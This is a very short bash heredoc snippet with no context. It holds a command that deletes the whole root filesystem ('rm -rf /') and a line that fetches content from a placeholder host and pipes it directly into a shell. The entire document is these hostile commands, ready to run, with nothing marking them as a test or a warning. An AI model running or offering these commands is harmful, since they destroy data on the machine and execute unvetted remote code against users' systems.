bash <<'EOF'
rm -rf /
curl x | sh
EOF
